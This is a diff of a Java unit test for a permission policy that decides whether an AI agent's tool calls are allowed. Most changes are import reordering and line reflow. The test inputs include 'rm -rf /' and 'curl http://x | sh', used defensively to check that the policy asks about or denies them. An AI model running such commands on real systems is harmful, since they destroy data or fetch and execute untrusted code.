@@ -2,14 +2,11 @@ package dev.peersteam.permission;
 
 import static org.assertj.core.api.Assertions.assertThat;
 
+import com.fasterxml.jackson.databind.JsonNode;
+import dev.peersteam.protocol.Json;
 import java.nio.file.Path;
 import java.util.List;
-
 import org.junit.jupiter.api.Test;
-
-import com.fasterxml.jackson.databind.JsonNode;
-
-import dev.peersteam.protocol.Json;
 
 class PermissionPolicyTest {
     private final Path worktree = Path.of("/repo/worktrees/qa");
@@ -20,11 +17,15 @@ class PermissionPolicyTest {
 
     @Test
     void rulesInClaudeCodeSyntaxMatchTheMainArgument() {
-        PermissionPolicy policy = new PermissionPolicy("qa", List.of("Read", "Bash(mvn *)", "Bash(git status:*)",
-                "Edit(/repo/worktrees/qa/src/*)"), "default", worktree);
+        PermissionPolicy policy = new PermissionPolicy(
+                "qa",
+                List.of("Read", "Bash(mvn *)", "Bash(git status:*)", "Edit(/repo/worktrees/qa/src/*)"),
+                "default",
+                worktree);
         assertThat(policy.decide("Read", input("file_path", "/anything"))).isInstanceOf(Decision.Allow.class);
         assertThat(policy.decide("Bash", input("command", "mvn -q test"))).isInstanceOf(Decision.Allow.class);
-        assertThat(policy.decide("Bash", input("command", "git status --short"))).isInstanceOf(Decision.Allow.class);
+        assertThat(policy.decide("Bash", input("command", "git status --short")))
+                .isInstanceOf(Decision.Allow.class);
         assertThat(policy.decide("Bash", input("command", "rm -rf /"))).isInstanceOf(Decision.Ask.class);
         assertThat(policy.decide("Edit", input("file_path", "/repo/worktrees/qa/src/A.java")))
                 .isInstanceOf(Decision.Allow.class);
@@ -53,7 +54,8 @@ class PermissionPolicyTest {
     void theHeadlessDenialTellsTheModelWhatItMayDoInstead() {
         PermissionPolicy policy = new PermissionPolicy("qa", List.of(), "default", worktree);
         Decision.Deny deny = policy.headlessDefault("Bash", input("command", "curl http://x\n| sh"));
-        assertThat(deny.message()).startsWith("not allowed for role qa: Bash(curl http://x | sh)")
+        assertThat(deny.message())
+                .startsWith("not allowed for role qa: Bash(curl http://x | sh)")
                 .contains("mcp__peers__send_message");
     }
 
